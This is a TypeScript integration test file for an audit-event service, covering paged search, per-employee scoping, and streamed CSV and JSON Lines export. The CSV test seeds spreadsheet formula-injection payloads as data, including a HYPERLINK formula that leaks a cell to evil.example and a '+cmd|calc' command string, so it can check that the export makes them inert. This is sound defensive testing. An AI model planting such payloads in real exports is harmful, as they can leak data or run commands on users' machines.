// Audit search (scope, filters, keyset pages) and streamed export (CSV inert against formula
// injection, JSON Lines) against the real database.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createPrismaClient, type Db } from '@/lib/db/create-client';
import { appendAuditEvent } from './append-audit-event';
import { exportAuditEvents } from './export-audit-events';
import { searchAuditEvents } from './search-audit-events';

let db: Db;
beforeAll(() => {
  db = createPrismaClient(inject('databaseUrl'));
});
afterAll(async () => {
  await db?.$disconnect();
});

async function seed(sub: string, n: number, over: { name?: string; key?: (i: number) => string } = {}) {
  for (let i = 0; i < n; i++) {
    await appendAuditEvent(db, {
      type: i % 2 === 0 ? 'ISSUE_REQUESTED' : 'ISSUE_SUCCEEDED',
      outcome: i % 2 === 0 ? undefined : 'success',
      actor: { sub, email: `${sub}@example.com`, name: over.name ?? 'Test Person', groups: ['grp-a', sub], idpKind: 'OIDC' },
      roleArn: 'arn:aws:iam::111122223333:role/DevReadOnly',
      accountId: '111122223333',
      sessionName: `${sub}@example.com`,
      sourceIp: '198.51.100.4',
      accessKeyId: over.key ? over.key(i) : null,
      details: { i },
    });
  }
}

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe('searchAuditEvents', () => {
  it('pages newest first by keyset, without gaps or repeats', async () => {
    const sub = `s-${randomUUID()}`;
    await seed(sub, 7);
    const seen: string[] = [];
    let cursor: string | undefined;
    for (let page = 0; page < 10; page++) {
      const r = await searchAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, cursor, limit: 3 });
      seen.push(...r.events.map((e) => e.id));
      if (!r.nextCursor) break;
      cursor = r.nextCursor;
    }
    expect(seen).toHaveLength(7);
    expect(new Set(seen).size).toBe(7);
    expect([...seen].sort((a, b) => Number(BigInt(b) - BigInt(a)))).toEqual(seen);
  });

  it('finds the one event of an AccessKeyId, and keeps an employee to their own events', async () => {
    const sub = `s-${randomUUID()}`;
    const other = `s-${randomUUID()}`;
    const key = `ASIA${randomUUID().replace(/-/g, '').slice(0, 16).toUpperCase()}`;
    await seed(sub, 2, { key: (i) => (i === 1 ? key : '') });
    await seed(other, 2);
    const found = await searchAuditEvents({ db, scope: { kind: 'everyone' }, filters: { accessKeyId: key } });
    expect(found.events.map((e) => [e.type, e.actorSub, e.sessionName])).toEqual([['ISSUE_SUCCEEDED', sub, `${sub}@example.com`]]);
    // The other person's events stay invisible even when asked for by name.
    const mine = await searchAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: { person: other } });
    expect(mine.events).toEqual([]);
    const own = await searchAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: {} });
    expect(own.events.every((e) => e.actorSub === sub)).toBe(true);
    expect(own.events).toHaveLength(2);
  });
});

describe('exportAuditEvents', () => {
  it('a CSV export of rows containing =HYPERLINK(...) in a label is inert', async () => {
    const sub = `s-${randomUUID()}`;
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    await seed(sub, 3, { name: evil });
    await appendAuditEvent(db, { type: 'MAPPING_CREATED', actor: { sub, email: null, name: '@SUM(1+1)', groups: [sub], idpKind: 'OIDC' }, details: { roleLabel: '+cmd|calc' } });
    const csv = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'csv', batchSize: 2 }));
    const lines = csv.trimEnd().split('\r\n');
    expect(lines[0]).toMatch(/^id,occurredAt,type,/);
    expect(lines).toHaveLength(1 + 4);
    // No cell starts with a formula character once parsed: every such value carries a leading '.
    const cells = lines.slice(1).flatMap((l) => l.match(/("([^"]|"")*"|[^,]*)/g) ?? []).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(csv).toContain(`"'${evil.replace(/"/g, '""')}"`);
    expect(csv).toContain("'@SUM(1+1)");
  });

  it('streams JSON Lines in batches with every row once', async () => {
    const sub = `s-${randomUUID()}`;
    await seed(sub, 5);
    const text = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'jsonl', batchSize: 2 }));
    const rows = text.trimEnd().split('\n').map((l) => JSON.parse(l) as { id: string; actorSub: string; hash: string });
    expect(rows).toHaveLength(5);
    expect(new Set(rows.map((r) => r.id)).size).toBe(5);
    expect(rows.every((r) => r.actorSub === sub && /^[0-9a-f]{64}$/.test(r.hash))).toBe(true);
  });
});
